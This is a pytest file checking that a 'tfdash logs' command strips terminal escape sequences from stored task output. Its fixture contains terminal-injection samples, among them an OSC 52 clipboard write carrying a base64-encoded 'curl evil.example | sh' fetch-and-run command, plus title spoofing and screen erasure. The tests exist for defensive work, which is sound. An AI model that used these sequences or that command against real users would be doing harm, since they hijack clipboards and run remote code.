"""`tfdash logs` shows a task's output as text: the terminal escapes a script printed (a clipboard write, a title
change, a screen erase, a terminal reset) do not reach the reader's terminal unless `--raw` asks for them; the server
renders each line as a terminal shows it (contracts/terminal_text.py) and the client strips what is left. The lines
go the way a task's output goes: sealed by the task's host as a log report, stored by the ingest, served by the API
(httpx's WSGI transport) and printed by the real command."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import re
from typing import Any

import httpx
import pytest
from django.core.wsgi import get_wsgi_application
from tfdash import cli
from tfdash.client import Client
from tfdash.terminal import printable

from contracts.protocol import TASK_LOGS
from contracts.terminal_text import render_line
from orchestrator.identity import api_tokens
from orchestrator.metrics import ingest
from orchestrator.models import Job, Task, TaskLogLine
from tests import factories
from tests.support.wire import sealed

pytestmark = pytest.mark.django_db(transaction=True)  # each WSGI request closes the connection at its end

CLIPBOARD = base64.b64encode(b"curl evil.example | sh\n").decode()
# What a script may print, each line a different trick, and what a reader must see of it.
OUTPUT = [
    (f"epoch 1\x1b]52;c;{CLIPBOARD}\x07 loss 0.5", "epoch 1 loss 0.5"),  # OSC 52: write the clipboard (BEL)
    ("\x1b]0;root@bastion\x1b\\step 2", "step 2"),  # OSC 0: the window's title (ST)
    ("\x1b]2;pwned\x07\x1b[2J\x1b[Hclean", "clean"),  # a title, then erase the screen and home the cursor
    ("\x1b[31mred\x1b[0m\tdone", "red\tdone"),  # colours go too: a reader gets text, tabs kept
    ("\x9b31mC1 CSI\x9d0;t\x9c!", "C1 CSI!"),  # the one-byte C1 forms
    ("\x1bcreset\x1b(0x\x07\x08\x7f", "resetx"),  # reset, charset switch, bell, backspace, DEL
    ("10%\r100%\r", "100%"),  # a progress bar at its last state, as a terminal shows it (rendered by the server)
    ("\u202eevil\u202c ok", "evil ok"),  # a bidirectional override
    ("unterminated \x1b]52;c;" + CLIPBOARD, "unterminated"),  # an OSC that never ends is cut to the line's end
]
# The client's own filter alone (what it makes of a line an older server sends as written): where it differs.
PRINTABLE = [
    *((raw, shown) for raw, shown in OUTPUT if "\r" not in raw and "unterminated" not in raw),
    ("10%\r100%\r", "10%\n100%"),  # nothing drawn over, a CRLF's CR dropped
    ("unterminated \x1b]52;c;" + CLIPBOARD, "unterminated "),
]


@pytest.fixture
def logged(alice: Any) -> Job:
    """A job whose worker 0 printed OUTPUT, stored through the ingest from its host's sealed report."""
    host, token = factories.host("escapes-0")
    job = Job.objects.create(owner=alice, cluster=host.cluster, name="esc", strategy="mirrored", workers=1, attempt=1)
    task = Task.objects.create(job=job, attempt=1, type="worker", index=0, host=host, state="running")
    body = {"task_id": task.pk, "attempt": 1, "lines": [[seq, "stdout", raw] for seq, (raw, _) in enumerate(OUTPUT)]}
    ingest.store_reports([(TASK_LOGS, sealed(host.name, token, TASK_LOGS, body))])
    assert list(TaskLogLine.objects.filter(task=task).order_by("seq").values_list("text", flat=True)) == [
        raw for raw, _ in OUTPUT
    ]  # stored as printed: the reader decides
    return job


def run_cli(alice: Any, monkeypatch: pytest.MonkeyPatch, *args: str) -> str:
    """What `tfdash ARGS` prints on its standard output."""
    token = api_tokens.issue(alice)[0]
    api = Client("http://testserver", token, transport=httpx.WSGITransport(app=get_wsgi_application()))
    monkeypatch.setattr(cli.Client, "from_config", classmethod(lambda _cls, _url: api))
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        assert cli.main(list(args)) == cli.OK
    return printed.getvalue()


def test_logs_print_no_terminal_control_sequence(alice, logged, monkeypatch):
    printed = run_cli(alice, monkeypatch, "logs", str(logged.pk), "--task", "worker:0")

    assert printed == "".join(f"{shown}\n" for _raw, shown in OUTPUT)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", printed)
    assert CLIPBOARD not in printed and "pwned" not in printed and "bastion" not in printed


def test_every_tasks_lines_are_stripped_too(alice, logged, monkeypatch):
    printed = run_cli(alice, monkeypatch, "logs", str(logged.pk))

    assert "\x1b" not in printed and "\x9b" not in printed
    assert printed.splitlines()[0] == "[worker:0] epoch 1 loss 0.5"


def test_raw_prints_the_lines_as_the_task_wrote_them(alice, logged, monkeypatch):
    printed = run_cli(alice, monkeypatch, "logs", str(logged.pk), "--task", "worker:0", "--raw")

    assert printed == "".join(f"{raw}\n" for raw, _shown in OUTPUT)


def test_json_keeps_the_text_and_escapes_every_control_character(alice, logged, monkeypatch):
    printed = run_cli(alice, monkeypatch, "logs", str(logged.pk), "--json")
    as_written = run_cli(alice, monkeypatch, "logs", str(logged.pk), "--json", "--raw")

    for out in (printed, as_written):
        assert not re.search("[\x00-\x1f\x7f]", out.replace("\n", ""))
    assert [json.loads(line)["text"] for line in printed.splitlines()] == [render_line(raw) for raw, _ in OUTPUT]
    assert [json.loads(line)["text"] for line in as_written.splitlines()] == [raw for raw, _ in OUTPUT]


@pytest.mark.parametrize("raw, shown", PRINTABLE)
def test_printable_alone(raw: str, shown: str):
    assert printable(raw) == shown
